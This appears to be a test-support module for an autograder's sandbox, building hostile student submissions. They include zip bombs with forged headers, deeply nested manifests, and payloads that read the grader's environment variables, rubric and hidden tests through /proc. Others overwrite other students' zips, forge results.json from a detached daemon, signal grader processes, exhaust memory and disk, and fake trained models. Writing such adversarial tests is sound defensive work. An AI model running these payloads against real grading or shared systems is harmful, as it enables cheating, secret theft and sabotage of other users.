"""Hostile submissions for the grading tests: payloads and zip builders.

Each payload is code a student could put at the top of an assignment file;
each builder writes a zip the way collect_submission.py would (same module,
same manifest), then changes what an attacker would change.
"""
import json
import struct
import zipfile
import zlib

import torch

from helpers import submission
from helpers.checkpoint import FORMAT


def pack(kit, folder, student_id, zip_id=None, created=None, **manifest_changes):
    """Zip ``kit`` as collect_submission would (without re-running the self-check)."""
    files = submission.submission_files(kit)
    manifest = submission.build_manifest(student_id, f"Student {student_id}", files,
                                         {"summary": "not run", "lines": [], "exit_code": None})
    if created:
        manifest["created_utc"] = created
    manifest.update(manifest_changes)
    path = folder / submission.zip_name(zip_id or student_id)
    submission.write_submission(path, files, manifest)
    return path


def pack_raw_manifest(kit, folder, zip_id, manifest_text):
    """A zip of ``kit`` whose MANIFEST.json is ``manifest_text`` as given."""
    path = folder / submission.zip_name(zip_id)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for arcname, source in sorted(submission.submission_files(kit).items()):
            archive.write(source, arcname)
        archive.writestr(submission.MANIFEST, manifest_text)
    return path


def deep_manifest(kit, depth=100_000):
    """Manifest text valid in every field but a ``self_check`` nested ``depth`` levels."""
    files = submission.submission_files(kit)
    manifest = submission.build_manifest("deep01", "Deep", files, {})
    text = json.dumps(manifest)
    return text.replace('"self_check": {}', '"self_check": ' + "[" * depth + "]" * depth)


def zeros_deflated(size, block=1 << 24):
    """A raw deflate stream that inflates to ``size`` zero bytes (``size`` a multiple of
    ``block``), built from one compressed block repeated (full flushes make blocks independent)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = compressor.compress(bytes(block)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return chunk * (size // block) + compressor.flush()


def lying_zip(path, name, compressed, declared_size):
    """A one-member zip whose headers declare ``declared_size`` for ``compressed`` (deflated)."""
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(compressed),
                        declared_size, len(encoded), 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0,
                          len(compressed), declared_size, len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(compressed), 0)
    path.write_bytes(local + compressed + central + end)
    return path


def many_entries_zip(source, path, count=100_000):
    """``source`` zip plus ``count`` tiny unexpected entries."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as target:
        for info in original.infolist():
            target.writestr(info, original.read(info.filename))
        for index in range(count):
            target.writestr(f"junk/{index}.txt", "")
    return path


def stride_zero_two_layer_net(path, hidden=4096):
    """A two-layer net file of a few KB whose tensors are stride-0 views of one number."""
    one = torch.zeros(1)
    params = {"W1": one.expand(3072, hidden), "b1": one.expand(hidden),
              "W2": one.expand(hidden, 10), "b2": one.expand(10)}
    torch.save(checkpoint_dict("two_layer_net", params), path)


def checkpoint_dict(kind, params):
    """A checkpoint in the kit's format holding ``params`` exactly as given (``save_model``
    would copy them into plain tensors)."""
    return {"format": FORMAT, "kind": kind, "config": {}, "params": params}


# ----------------------------------------------------------------- payloads ---

def reach_out(token, port, unix_path):
    """Everything a submission might try to reach outside its sandbox, at import time:
    the grader's kit through /proc/<pid>/cwd, every other zip, the network, and a
    detached process that outlives the run."""
    return f"""
import os as _os, glob as _glob, socket as _socket_mod, subprocess as _sp, sys as _sys
import _socket
for _pid in _os.listdir('/proc'):  # the instructor's kit, through any process's cwd or root
    for _link in ('cwd', 'root'):
        try:
            for _f in _glob.glob(f'/proc/{{_pid}}/{{_link}}/assignment/*.py'):
                with open(_f, 'a') as _h:
                    _h.write('\\nINJECTED_BY = "reach01"\\n')
        except OSError:
            pass
for _pattern in ('/proc/*/cwd/**/*_submission.zip', '/proc/*/root/tmp/**/*_submission.zip',
                 '/tmp/**/*_submission.zip'):  # every other student's zip
    for _z in _glob.glob(_pattern, recursive=True):
        try:
            with open(_z, 'wb') as _h:
                _h.write(b'swapped by reach01')
        except OSError:
            pass
for _connect in (lambda: _socket.socket().connect(('127.0.0.1', {port})),
                 lambda: _socket_mod.socket.__base__.connect(_socket_mod.socket(),
                                                             ('127.0.0.1', {port})),
                 lambda: _socket_mod.socket(_socket_mod.AF_UNIX).connect({str(unix_path)!r})):
    try:
        _connect()
    except Exception:
        pass
try:
    _sp.run([_sys.executable, '-c',
             'import socket; socket.create_connection(("127.0.0.1", {port}))'],
            timeout=10, capture_output=True)
except Exception:
    pass
if not _os.environ.get('REACH01_STARTED'):
    _os.environ['REACH01_STARTED'] = '1'
    _sp.Popen([_sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', {token!r}],
              start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""


DUMP_SECRETS = """
import os as _os, pathlib as _pl
_texts = []
for _pid in _os.listdir('/proc'):  # the grader's environment, rubric, reference code, zips
    for _name in ('environ', 'cwd/instructor/rubric.json', 'cwd/assignment/metrics.py'):
        try:
            _text = open(f'/proc/{_pid}/{_name}', errors='replace').read()
            _texts.append(_text.replace('\\0', '\\n'))
        except OSError:
            pass
_texts.append(repr(dict(_os.environ)))
_here = _pl.Path(__file__).resolve().parents[1]
_texts += [p.read_text() for p in sorted((_here / 'tests' / 'hidden').glob('test_*.py'))]
_out = ('y' * 100000 + '\\n' + '\\n'.join(_texts) + '\\n').encode()  # secrets last
for _fd in _os.listdir('/proc/self/fd'):  # around pytest's capture: every pipe it can find
    try:
        if int(_fd) > 0 and _os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):
            _os.write(int(_fd), _out)
    except OSError:
        pass
_os._exit(1)
"""

# Breaks the result file of the old in-sandbox runner (_grade_runner.py); with trusted verdicts
# no process of the student's writes a result, so it finds nothing to break.
BREAK_RESULT_FILE = """
import atexit as _atexit, sys as _sys
if _sys.argv and _sys.argv[0].endswith('_grade_runner.py'):
    _result = _sys.argv[1]
    def _break():
        with open(_result, 'w') as _h:
            _h.write('{"metrics": ')
    _atexit.register(_break)
"""


# ------------------------------------------------------- issue 22's attacks ---
# Appended to an assignment file of the reference: each replaces a function with a wrong one
# that a grader trusting its inputs, callbacks or reports would pass.

# ReLU.backward zeroes the dout it is given and answers zeros: a check computing its expected
# value from dout after the call would agree.
ZERO_THE_INPUTS = """

def _zeroing_relu_backward(dout, cache):
    dout.zero_()
    return torch.zeros_like(cache)


ReLU.backward = staticmethod(_zeroing_relu_backward)
"""

# cross_validate pairs rows with the wrong labels and hides the check's complaint.
CATCH_THE_CHECKS = """

def cross_validate(fit_and_score, X, y, k=5, *, seed=0):
    scores = torch.empty(k, dtype=torch.float64)
    for fold, (train_idx, val_idx) in enumerate(k_fold_indices(X.shape[0], k, seed=seed)):
        try:
            scores[fold] = float(fit_and_score(X[train_idx], y[train_idx.flip(0)], X[val_idx],
                                               y[val_idx]))
        except AssertionError:
            scores[fold] = float(len(val_idx))
    return scores
"""

# A Solver that never trained, reporting a high validation accuracy and a loss history of
# the right length.
SELF_REPORTED = """

def _untrained_solver(model, data_dict, num_epochs):
    solver = Solver(model, data_dict, update_rule=sgd, num_epochs=num_epochs, verbose=False)
    per_epoch = max(data_dict["X_train"].shape[0] // solver.batch_size, 1)
    solver.best_val_acc, solver.epoch = 0.99, num_epochs
    solver.loss_history = [2.3] * (num_epochs * per_epoch)  # as long as a real run's
    return solver


def create_solver_instance(data_dict, dtype, device):
    return _untrained_solver(TwoLayerNet(dtype=dtype, device=device), data_dict, 10)


def train_best_fc_net(data_dict, dtype, device, num_epochs):
    return _untrained_solver(FullyConnectedNet([100], dtype=dtype, device=device), data_dict,
                             num_epochs)
"""

# A warning whose file is a FIFO in the scratch folder: opening it blocks until a writer comes.
FIFO_WARNING = """

import os as _os
import warnings as _warnings

_FIFO = _os.path.join(_os.environ.get("HOME", "."), "warning.py")
if not _os.path.exists(_FIFO):
    _os.mkfifo(_FIFO)
_accuracy = accuracy


def accuracy(y_pred, y_true):
    _warnings.warn_explicit("look at my source", UserWarning, _FIFO, 1)
    return _accuracy(y_pred, y_true)
"""

# Every function and method of the module ends the worker.
CRASH_LOOP = """

import inspect as _inspect
import os as _os


def _crash(*_args, **_kwargs):
    _os._exit(1)


for _name, _value in list(globals().items()):
    if _inspect.isfunction(_value) and _value.__module__ == __name__:
        globals()[_name] = _crash
    elif _inspect.isclass(_value) and _value.__module__ == __name__:
        for _attribute, _member in list(vars(_value).items()):
            if isinstance(_member, staticmethod):
                setattr(_value, _attribute, staticmethod(_crash))
            elif _inspect.isfunction(_member):
                setattr(_value, _attribute, _crash)
"""

# Sends SIGINT to its parent at import: without a sandbox, the trusted process of the checks.
INTERRUPT_THE_GRADER = """

import os as _os
import signal as _signal

if _os.environ.get("KIT_GRADE_BLOCK_NETWORK") == "1":  # only while graded without a sandbox
    _os.kill(_os.getppid(), _signal.SIGINT)
"""


def fit_on_test_split(path):
    """Replace the linear model saved at ``path`` with one fitted by least squares to the
    CIFAR-10 test images and labels (no training at all)."""
    from helpers.data import preprocess_cifar10

    data = preprocess_cifar10(bias_trick=True, dtype=torch.float64, device="cpu")
    targets = torch.nn.functional.one_hot(data["y_test"], 10).to(torch.float64)
    X = data["X_test"]
    W = torch.linalg.solve(X.T @ X + 1e-3 * torch.eye(X.shape[1], dtype=X.dtype), X.T @ targets)
    checkpoint = torch.load(path, weights_only=True)
    checkpoint["params"]["W"] = W.to(checkpoint["params"]["W"].dtype).contiguous()
    torch.save(checkpoint, path)


def results_daemon(root, report):
    """At import, a ``setsid`` daemon that reads the autograder's source, writes results.json,
    stops every process it can signal (the supervisor, when the worker runs as root) and keeps
    rewriting the results; what it managed goes to ``report`` (a JSON file)."""
    daemon = f"""
import json, os, pathlib, signal, time
root = pathlib.Path({str(root)!r})
seen = {{}}
for name, path in (("rubric", root / "source" / "instructor" / "rubric.json"),
                   ("hidden", root / "source" / "instructor" / "tests" / "hidden")):
    try:
        seen[name] = len(path.read_text()) if path.is_file() else len(os.listdir(path))
    except OSError as err:
        seen[name] = type(err).__name__
forged = json.dumps({{"score": 100.0, "output": "forged", "tests": []}})
try:
    (root / "results" / "results.json").write_text(forged)
    seen["results"] = "written"
except OSError as err:
    seen["results"] = type(err).__name__
stopped = 0
for pid in os.listdir("/proc"):  # another user's processes: the grader's
    try:
        if not pid.isdigit() or os.stat(f"/proc/{{pid}}").st_uid == os.getuid():
            continue
        os.kill(int(pid), signal.SIGSTOP)
        os.kill(int(pid), signal.SIGCONT)
        stopped += 1
    except OSError:
        pass
seen["signalled"] = stopped
pathlib.Path({str(report)!r}).write_text(json.dumps(seen))
while True:
    try:
        (root / "results" / "results.json").write_text(forged)
    except OSError:
        pass
    time.sleep(0.2)
"""
    return f"""

import os as _os, subprocess as _sp, sys as _sys
if not _os.environ.get("KIT_DAEMON_STARTED"):
    _os.environ["KIT_DAEMON_STARTED"] = "1"
    _sp.Popen([_sys.executable, "-c", {daemon!r}], start_new_session=True,
              stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""

# precision_recall (which no other function calls) starts five processes of 1 GB each, each
# under the per-process limit.
MEMORY_TREE = """

import subprocess as _sp
import sys as _sys
import time as _time


def precision_recall(y_true, y_pred, num_classes):
    hogs = [_sp.Popen([_sys.executable, "-c", "import time; b = b'x' * 2**30; time.sleep(120)"])
            for _ in range(5)]
    _time.sleep(60)
    return hogs
"""

# svm_get_search_params fills the scratch folder with files under the file-size limit.
SCRATCH_FILLER = """

import os as _os


def svm_get_search_params():
    block = b"x" * (32 << 20)
    for index in range(100):
        with open(_os.path.join(_os.environ.get("HOME", "."), f"fill{index}.bin"), "wb") as f:
            f.write(block)
    return [1e-7], [1e4]
"""
